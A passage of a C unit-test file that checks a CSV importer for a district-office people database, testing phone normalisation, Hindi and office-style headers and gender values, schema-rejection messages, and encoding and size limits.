			  "L2,011 2345 6789,Gaya\n"
			  "L3,+91 612 2234567,Gaya\n"
			  "L4,(0651) 2234567,Patna\n"
			  "M1,098765-43210,Patna\n"
			  "M2,+91 91234 00001,Patna\n";
	assert_int_equal(import_s(db, "people", csv, &st, &rj), 0);
	assert_int_equal(st.ncreated, 6);
	char *got = text(db, "SELECT group_concat(name || '=' || phone, ' ') FROM "
			     "(SELECT name, phone FROM people ORDER BY name)");
	assert_string_equal(got, "L1=0612-2234567 L2=011-23456789 L3=0612-2234567 "
				 "L4=0651-2234567 M1=9876543210 M2=9123400001");
	free(got);
	/* the same landline typed another way is the same row */
	assert_int_equal(import_s(db, "people", "name,phone,district_id\nL1,0612 2234567,Patna\n",
				  &st, &rj),
			 0);
	assert_int_equal(st.nunchanged, 1);
	/* a landline one digit short is not made into anything */
	assert_int_equal(import_s(db, "people", "name,phone,district_id\nL5,0612-223456,Patna\n",
				  &st, &rj),
			 ZILA_EFORMAT);
	assert_non_null(strstr(rj.reason[0], "malformed phone '0612-223456'"));
	sqlite3_close(db);
}

/* #16: what office staff write becomes what the schema wants: F/M/महिला as female or male,
 * a district laptop's own district for a file that names none (matched on (district,
 * phone) as if the file named it), and a CHECK failure said as the value and the column. */
static void test_office_values(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	const char *csv = "name,phone,gender\n"
			  "Asha,9000000001,F\n"
			  "Ravi,9000000002,m\n"
			  "Kamla,9000000003,महिला\n"
			  "Mohan,9000000004,पुरुष\n"
			  "Chand,9000000005,Other\n";
	struct zila_csv_import_opts o = { .table = "people", .own_district = "d-gaya" };
	assert_int_equal(import(db, &o, csv, strlen(csv), 9, &st, &rj), 0);
	assert_int_equal(st.ncreated, 5);
	char *got = text(db, "SELECT group_concat(name || '=' || gender || '@' || district_id, ' ') "
			     "FROM (SELECT * FROM people ORDER BY phone)");
	assert_string_equal(got, "Asha=female@d-gaya Ravi=male@d-gaya Kamla=female@d-gaya "
				 "Mohan=male@d-gaya Chand=other@d-gaya");
	free(got);
	/* the same file again matches the same rows */
	assert_int_equal(import(db, &o, csv, strlen(csv), 9, &st, &rj), 0);
	assert_int_equal(st.nunchanged, 5);
	/* without a district of its own (HQ), a file with none is refused as before */
	assert_int_equal(import_s(db, "people", "name,phone\nNew,9000000009\n", &st, &rj),
			 ZILA_EFORMAT);
	assert_string_equal(rj.reason[0], "missing required column 'district_id'");

	/* a value the table's CHECK refuses: the value and the column, in words */
	assert_int_equal(import_s(db, "people", "name,phone,district_id,gender,birth_year\n"
						"Old,9000000006,Patna,f,1850\n"
						"Odd,9000000007,Patna,x,1980\n",
				  &st, &rj),
			 ZILA_EFORMAT);
	assert_int_equal(st.nrejected, 2);
	assert_string_equal(rj.reason[0], "'1850' is not allowed in column birth_year (the table "
					  "wants: birth_year BETWEEN 1900 AND 2100)");
	assert_string_equal(rj.reason[1], "'x' is not allowed in column gender (the table wants: "
					  "gender = 'female' OR gender = 'male' OR gender = "
					  "'other')");
	/* a new row (its own id) with a phone another member of the district holds */
	assert_int_equal(import_s(db, "people", "id,name,phone,district_id\n"
						"x1,Other Asha,9000000001,Gaya\n",
				  &st, &rj),
			 ZILA_EFORMAT);
	assert_string_equal(rj.reason[0], "phone '9000000001' already belongs to another row of "
					  "table 'people' (UNIQUE: two rows cannot share it)");
	sqlite3_close(db);
}

/* Headers as district offices write them: the import places Naam, Mobile No., Ling, Booth
 * No, Zila and the Hindi words without a mapping (the web preview guesses with the same
 * code); a header nothing places is still refused, naming it. */
static void test_office_headers(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	assert_int_equal(import_s(db, "people", "Naam,Hindi Naam,Mobile No.,Ling,Booth No,Zila\n"
						"Asha,आशा,98765 00001,F,u-patna,Patna\n",
				  &st, &rj),
			 0);
	assert_int_equal(st.ncreated, 1);
	char *got = text(db, "SELECT name || '|' || name_local || '|' || phone || '|' || gender || '|' || org_unit_id || '|' || district_id"
			     " FROM people");
	assert_string_equal(got, "Asha|आशा|9876500001|female|u-patna|d-patna");
	free(got);
	assert_int_equal(import_s(db, "people", "नाम,मोबाइल नंबर,लिंग,जिला\nरीना,9876500002,महिला,Gaya\n", &st, &rj), 0);
	assert_int_equal(st.ncreated, 1);
	got = text(db, "SELECT name || '|' || gender || '|' || district_id FROM people WHERE phone = '9876500002'");
	assert_string_equal(got, "रीना|female|d-gaya");
	free(got);
	struct zila_csv_import *im = NULL;
	struct zila_error err;
	struct zila_csv_import_opts o = { .table = "people" };
	assert_int_equal(zila_csv_import_new(&im, db, &o, &err), 0);
	const char *bad = "Naam,Kuch Aur\nX,y\n";
	int r = zila_csv_import_feed(im, bad, strlen(bad), &err);
	if (r == 0)
		r = zila_csv_import_finish(im, &st, &err);
	assert_int_equal(r, ZILA_ESCHEMA);
	assert_non_null(strstr(err.msg, "matches header 'Kuch Aur'"));
	zila_csv_import_free(im);
	sqlite3_close(db);
}

static void test_encodings_and_limits(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	struct zila_csv_import_opts o = { .table = "people" };
	/* UTF-16 from "Unicode text" saves */
	const char u16[] = "\xff\xfen\0a\0m\0e\0\n\0";
	assert_int_equal(import(db, &o, u16, sizeof(u16) - 1, 100, &st, &rj), ZILA_EFORMAT);
	/* Windows-1252 bytes in a cell */
	const char *latin = "name,district_id\nJos\xe9,Patna\n";
	assert_int_equal(import(db, &o, latin, strlen(latin), 100, &st, &rj), ZILA_EFORMAT);
	assert_non_null(strstr(rj.reason[0], "UTF-8"));
	/* a semicolon-separated file (European Excel) is detected */
	const char *semi = "name;phone;district_id\nS;9000000001;Patna\n";
	assert_int_equal(import(db, &o, semi, strlen(semi), 100, &st, &rj), 0);
	assert_int_equal(st.ncreated, 1);
	/* an unclosed quote does not read the whole file into memory */
	size_t big = ZILA_CSV_FIELD_MAX + 100000;
	char *q = malloc(big);
	memset(q, 'x', big);
	memcpy(q, "name,district_id\n\"", 18);
	assert_int_equal(import(db, &o, q, big, 65536, &st, &rj), ZILA_ETOOBIG);
	free(q);
	/* empty input and header only */
	assert_int_equal(import(db, &o, "", 0, 1, &st, &rj), ZILA_EFORMAT);
	assert_int_equal(import(db, &o, "name,district_id\r\n", 18, 1, &st, &rj), 0);
	assert_int_equal(st.nrows, 0);
	assert_int_equal(count(db, "SELECT count(*) FROM people"), 1);
	sqlite3_close(db);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_excel_bom_hindi),
		cmocka_unit_test(test_embedded_newlines),
		cmocka_unit_test(test_bad_row_5001_of_10000),
		cmocka_unit_test(test_reimport_and_update),
		cmocka_unit_test(test_dry_run_counts),
		cmocka_unit_test(test_reasons),
		cmocka_unit_test(test_self_reference_parents_first),
		cmocka_unit_test(test_export_json_and_district),
		cmocka_unit_test(test_encodings_and_limits),
		cmocka_unit_test(test_export_formula_cells),
		cmocka_unit_test(test_shared_phone_is_not_a_merge),
		cmocka_unit_test(test_lost_letters_refused),
		cmocka_unit_test(test_landline_stays_a_landline),
		cmocka_unit_test(test_office_values),
		cmocka_unit_test(test_office_headers),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
